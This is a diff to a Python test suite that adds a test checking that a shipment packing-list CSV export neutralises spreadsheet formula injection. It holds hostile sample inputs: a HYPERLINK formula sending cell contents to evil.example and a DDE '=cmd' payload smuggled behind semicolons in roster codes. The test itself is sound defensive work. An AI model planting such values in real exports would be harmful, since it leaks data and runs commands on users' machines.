@@ -3,12 +3,24 @@ per-package outcomes — and the money, the students' records and the merchants'
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from datetime import timedelta, timezone
 from typing import Any
 
-from tests.helpers import assert_problem, audit_ok, bearer, create_key, create_partner, get_order
+from app.core.csv_export import inert
+from tests.helpers import (
+    assert_problem,
+    audit_ok,
+    bearer,
+    create_key,
+    create_partner,
+    formula_cells,
+    get_order,
+)
 from tests.logistics.conftest import Shipping, proof
+from tests.roster_codes import roster_code
 
 
 async def test_a_partner_takes_a_shipment_from_hand_over_to_receipt_and_the_money_follows(
@@ -208,6 +220,28 @@ async def test_partners_see_only_their_own_shipments_and_never_a_student(shippin
     )
     assert not any(s["id"] in seen or s["roster_code"] in seen for s in students)
     assert "student" not in seen
+
+
+async def test_the_packing_list_opens_as_text_in_any_spreadsheet(shipping: Shipping) -> None:
+    """A kind's name and a school's roster codes are whatever people typed; the teacher's spreadsheet must not run
+    them, whether it splits the file on commas or on semicolons (Excel in Indonesia)."""
+    kind = await shipping.pool.kind(
+        name='=HYPERLINK("http://evil.example/?"&D2,"Open")', unit_cost={"amount": 500, "currency": "USD"}
+    )
+    # Roster codes start with the suite's mark (see tests.roster_codes); the formula comes after a separator.
+    codes = [roster_code(';=HYPERLINK("http://evil.example")'), roster_code("INV-7;=cmd|'/Ccalc'!A0;")]
+    shipment = await shipping.shipment(["1", "2"], kind=kind, codes=codes)
+    packing = await shipping.client.get(
+        f"/v1/shipments/{shipment['id']}/packing-list", headers=shipping.admin
+    )
+    assert packing.status_code == 200
+    assert formula_cells(packing.text) == []
+    header, *rows = list(csv.reader(io.StringIO(packing.text, newline="")))
+    assert header == ["package_id", "package", "grade", "roster_code"] and len(rows) == 2
+    assert {row[1] for row in rows} == {'\'=HYPERLINK("http://evil.example/?"&D2,"Open")'}
+    assert sorted(row[3] for row in rows) == sorted(inert(code) for code in codes)
+    assert "rc~INV-7;'=cmd|'/Ccalc'!A0;" in {row[3] for row in rows}
+    assert {row[2] for row in rows} == {"1", "2"}
 
 
 async def test_filters_by_status_school_country_and_staleness(shipping: Shipping) -> None:
